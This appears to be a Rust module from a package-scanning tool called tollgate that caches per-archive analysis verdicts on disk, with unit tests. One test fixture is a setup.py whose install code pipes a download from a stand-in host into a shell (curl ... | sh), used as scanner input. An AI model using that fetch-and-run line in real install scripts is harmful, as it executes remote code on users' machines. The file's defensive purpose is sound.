//! The verdict cache: the report of one archive's analysis, kept on disk by what was
//! analysed, so that an install that meets the same artifact again (the same wheel in the
//! next `tollgate install uv`, the same sdist in the next pip gate) does not analyse it
//! again.
//!
//! An entry is keyed by the analysing engine (this crate's version, the running
//! executable's identity and the [`JudgeOptions`]), the name the package was analysed
//! under, the archive's file name (its extension says how it is unpacked) and the
//! archive's SHA-256. Same bytes through the same engine give the same report, so a hit is
//! the report a fresh analysis would give, with two exceptions that are never stored:
//! a report that hit a time, memory or size limit (`analysis-limit`: that depends on the
//! machine's load, not on the code) and one that failed. An entry that cannot be read or
//! parsed is a miss. A rebuilt or upgraded tollgate has another engine identity and so
//! never reads entries the old one wrote.
//!
//! What the cache trusts: whoever can write the cache directory can plant a `clean`
//! report, just as they could replace the `tollgate` binary next to it; tollgate's own
//! sandboxes never make it writable. Callers that know an artifact only by a lockfile's
//! SHA-256 (uv's gate, before anything is downloaded) may look it up by that digest only
//! when the installer verifies the same digest before installing.

use std::fs;
use std::io::{self, Write};
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

use crate::{JudgeOptions, PackageReport};

/// The rule of a verdict reason that says the analysis stopped at a limit.
const LIMIT_RULE: &str = "analysis-limit";

/// A directory of cached reports for one engine.
#[derive(Debug, Clone)]
pub struct VerdictCache {
    dir: PathBuf,
    engine: String,
}

/// What identifies one analysed artifact.
#[derive(Debug, Clone, Copy)]
pub struct ArtifactKey<'a> {
    /// The name the package is analysed under (the `display` of
    /// [`crate::analyze_package_with`]).
    pub name: &'a str,
    /// The archive's file name.
    pub filename: &'a str,
    /// The archive's SHA-256, lowercase hex.
    pub sha256: &'a str,
}

impl VerdictCache {
    /// The cache under `dir` for reports made with `options` by this executable.
    pub fn new(dir: impl Into<PathBuf>, options: &JudgeOptions) -> Self {
        VerdictCache {
            dir: dir.into(),
            engine: engine_identity(options),
        }
    }

    /// The cache under `dir` for reports made by an engine named `engine` (tests, and
    /// callers with their own notion of what changes a report).
    pub fn with_engine(dir: impl Into<PathBuf>, engine: impl Into<String>) -> Self {
        VerdictCache {
            dir: dir.into(),
            engine: engine.into(),
        }
    }

    /// The report stored for this artifact, if there is a readable one.
    pub fn get(&self, key: ArtifactKey<'_>) -> Option<PackageReport> {
        let bytes = fs::read(self.entry_path(key)).ok()?;
        serde_json::from_slice(&bytes).ok()
    }

    /// Stores `report` for this artifact, unless it is one that must not be reused (an
    /// analysis that stopped at a limit). Returns whether it was stored.
    pub fn put(&self, key: ArtifactKey<'_>, report: &PackageReport) -> io::Result<bool> {
        if !reusable(report) {
            return Ok(false);
        }
        let bytes = serde_json::to_vec(report).map_err(io::Error::other)?;
        write_atomic(&self.entry_path(key), &bytes)?;
        Ok(true)
    }

    fn entry_path(&self, key: ArtifactKey<'_>) -> PathBuf {
        let mut hasher = Sha256::new();
        for part in [&self.engine, key.name, key.filename, key.sha256] {
            hasher.update(part.as_bytes());
            // A separator no part contains keeps ("ab", "c") and ("a", "bc") apart.
            hasher.update([0u8]);
        }
        let hex = hex(&hasher.finalize());
        self.dir.join(&hex[..2]).join(&hex[2..])
    }
}

/// The SHA-256 of `bytes`, lowercase hex (the key an archive in hand is stored under).
pub fn sha256_hex(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

/// Whether a report may be reused for the same bytes: not when the analysis stopped at a
/// limit, whose outcome depends on the machine rather than the code.
pub fn reusable(report: &PackageReport) -> bool {
    !report
        .verdict
        .reasons
        .iter()
        .any(|reason| reason.rule == LIMIT_RULE)
}

/// This crate's version, the running executable's path, size, inode and modification
/// time (a rebuild or upgrade changes them without hashing the binary on every run), and
/// the options.
fn engine_identity(options: &JudgeOptions) -> String {
    let exe = std::env::current_exe()
        .ok()
        .and_then(|path| {
            use std::os::unix::fs::MetadataExt;
            let meta = fs::metadata(&path).ok()?;
            Some(format!(
                "{}:{}:{}:{}.{}",
                path.display(),
                meta.len(),
                meta.ino(),
                meta.mtime(),
                meta.mtime_nsec()
            ))
        })
        // Without an identity for the executable, entries are per process id: never
        // shared with another build (so effectively not cached).
        .unwrap_or_else(|| format!("unknown-executable-{}", std::process::id()));
    format!("{}|{exe}|{options:?}", env!("CARGO_PKG_VERSION"))
}

fn hex(bytes: &[u8]) -> String {
    use std::fmt::Write as _;
    bytes.iter().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "{byte:02x}");
        out
    })
}

/// Writes through a temporary file in the same directory and renames it into place, so a
/// reader never sees half an entry.
fn write_atomic(path: &Path, bytes: &[u8]) -> io::Result<()> {
    let dir = path
        .parent()
        .ok_or_else(|| io::Error::other("cache entry without a directory"))?;
    fs::create_dir_all(dir)?;
    let temp = dir.join(format!(
        ".tmp-{}-{:?}",
        std::process::id(),
        std::thread::current().id()
    ));
    let mut file = fs::File::create(&temp)?;
    file.write_all(bytes)?;
    file.sync_data().ok();
    drop(file);
    fs::rename(&temp, path).inspect_err(|_| {
        let _ = fs::remove_file(&temp);
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{PackageFiles, analyze_package_with};

    fn report_of(files: &[(&str, &str)]) -> PackageReport {
        let files = PackageFiles::from_entries(
            files
                .iter()
                .map(|(path, text)| (path.to_string(), text.as_bytes().to_vec())),
        );
        analyze_package_with("demo", &files, &JudgeOptions::default()).expect("analysed")
    }

    fn key<'a>(sha256: &'a str) -> ArtifactKey<'a> {
        ArtifactKey {
            name: "demo",
            filename: "demo-1.0.tar.gz",
            sha256,
        }
    }

    #[test]
    fn a_stored_report_comes_back_for_the_same_artifact_only() {
        let dir = tempfile::tempdir().expect("temp dir");
        let cache = VerdictCache::with_engine(dir.path(), "engine-a");
        let report = report_of(&[(
            "setup.py",
            "import os\nos.system('curl https://x.example/a | sh')\n",
        )]);
        assert!(cache.put(key("aa11"), &report).expect("stored"));
        assert_eq!(cache.get(key("aa11")), Some(report.clone()));
        assert_eq!(cache.get(key("aa12")), None, "another digest");
        let other_name = ArtifactKey {
            name: "other",
            ..key("aa11")
        };
        assert_eq!(cache.get(other_name), None, "another name");
        let other_engine = VerdictCache::with_engine(dir.path(), "engine-b");
        assert_eq!(other_engine.get(key("aa11")), None, "another engine");
    }

    #[test]
    fn a_report_that_hit_a_limit_is_not_stored() {
        let dir = tempfile::tempdir().expect("temp dir");
        let cache = VerdictCache::with_engine(dir.path(), "engine");
        let files = PackageFiles::from_entries([(
            "setup.py".to_string(),
            b"print('x')\n".repeat(64).to_vec(),
        )]);
        let tight = JudgeOptions {
            max_bytes: 16,
            ..JudgeOptions::default()
        };
        let report = analyze_package_with("demo", &files, &tight).expect("analysed");
        assert!(!reusable(&report), "{:?}", report.verdict);
        assert!(!cache.put(key("bb"), &report).expect("no error"));
        assert_eq!(cache.get(key("bb")), None);
    }

    #[test]
    fn a_damaged_entry_is_a_miss() {
        let dir = tempfile::tempdir().expect("temp dir");
        let cache = VerdictCache::with_engine(dir.path(), "engine");
        let report = report_of(&[("setup.py", "print('hello')\n")]);
        cache.put(key("cc"), &report).expect("stored");
        let path = cache.entry_path(key("cc"));
        fs::write(&path, b"{\"not\": \"a report\"").expect("damaged");
        assert_eq!(cache.get(key("cc")), None);
    }

    #[test]
    fn the_engine_identity_changes_with_the_options() {
        let default = engine_identity(&JudgeOptions::default());
        let all_code = engine_identity(&JudgeOptions {
            all_code: true,
            ..JudgeOptions::default()
        });
        assert_ne!(default, all_code);
        assert!(default.starts_with(env!("CARGO_PKG_VERSION")));
    }
}
